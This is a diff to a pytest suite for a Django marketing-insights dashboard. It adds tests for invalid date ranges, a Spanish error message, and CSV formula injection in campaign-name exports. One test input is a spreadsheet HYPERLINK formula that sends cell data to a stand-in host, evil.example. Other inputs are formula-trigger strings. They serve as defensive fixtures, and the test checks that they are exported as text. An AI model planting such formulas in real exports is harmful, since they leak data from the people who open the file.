@@ -9,6 +9,7 @@ import pytest
 
 from backoffice.eventstore import projector
 from backoffice.insights.models import AcquisitionSpend
+from tests.factories import CampaignFactory
 
 pytestmark = pytest.mark.django_db
 RANGE = {"from": "2026-01-01", "to": "2026-03-31", "churn_days": "30"}
@@ -45,12 +46,32 @@ def test_a_figure_downloads_as_csv_with_the_same_numbers(shop, marketing_client)
     ]
 
 
-def test_a_bad_range_shows_the_parameter_at_fault(marketing_client):
-    response = marketing_client.get("/admin/insights/dashboard/", {"from": "2026-05-01", "to": "2026-04-01"})
+@pytest.mark.parametrize(
+    "params",
+    [
+        {"from": "2026-05-01", "to": "2026-04-01"},
+        {"channel": "fax"},
+        {"churn_days": "\u00b2"},
+        {"to": "0001-01-05"},
+        {"from": "0001-01-01", "to": "0001-01-02"},
+        {"from": "9999-12-30", "to": "9999-12-31"},
+    ],
+)
+def test_a_bad_range_shows_the_parameter_at_fault(marketing_client, params):
+    response = marketing_client.get("/admin/insights/dashboard/", params)
 
     assert response.status_code == 200
     assert 'id="insights-error"' in response.content.decode()
-    assert marketing_client.get("/admin/insights/dashboard/csv/trends/", {"channel": "fax"}).status_code == 400
+    assert marketing_client.get("/admin/insights/dashboard/csv/trends/", params).status_code == 400
+
+
+def test_a_day_outside_the_accepted_span_is_explained_in_spanish(marketing_client):
+    response = marketing_client.get(
+        "/admin/insights/dashboard/", {"from": "0001-01-01", "to": "0001-01-02"}, HTTP_ACCEPT_LANGUAGE="es"
+    )
+
+    assert "1970-01-01" in response.content.decode()
+    assert "fuera de los días que guardamos" in response.content.decode()
 
 
 def test_an_unknown_figure_is_not_found(marketing_client):
@@ -171,3 +192,20 @@ def test_a_month_only_partly_in_the_range_is_drawn_dashed_and_said_so(shop, mark
     assert "mes solo en parte dentro del rango" in chart
     assert 'class="line-partial"' not in whole_chart  # 1 January to 31 March: whole months
     assert "mes solo en parte" not in whole_chart
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("https://evil.example/?d="&A2,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
+    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
+)
+def test_a_campaign_name_is_exported_as_text_never_as_a_formula(shop, marketing_client, name):
+    campaign = CampaignFactory(name=name)  # free text any marketing user sets
+    shop.message("message.sent", "B", "sms", "2026-01-03", str(campaign.id), "m-formula", attempt=1)
+    projector.catch_up_all(["insights.rollups", "insights.campaign_audience"])
+
+    response = marketing_client.get("/admin/insights/dashboard/csv/campaigns/", RANGE)
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert "'" + name in [row["name"] for row in rows]  # a leading quote: shown as text, never run
+    assert ("Primavera", "sms", "-1.0000") in [(row["name"], row["channel"], row["ROI"]) for row in rows]  # a number
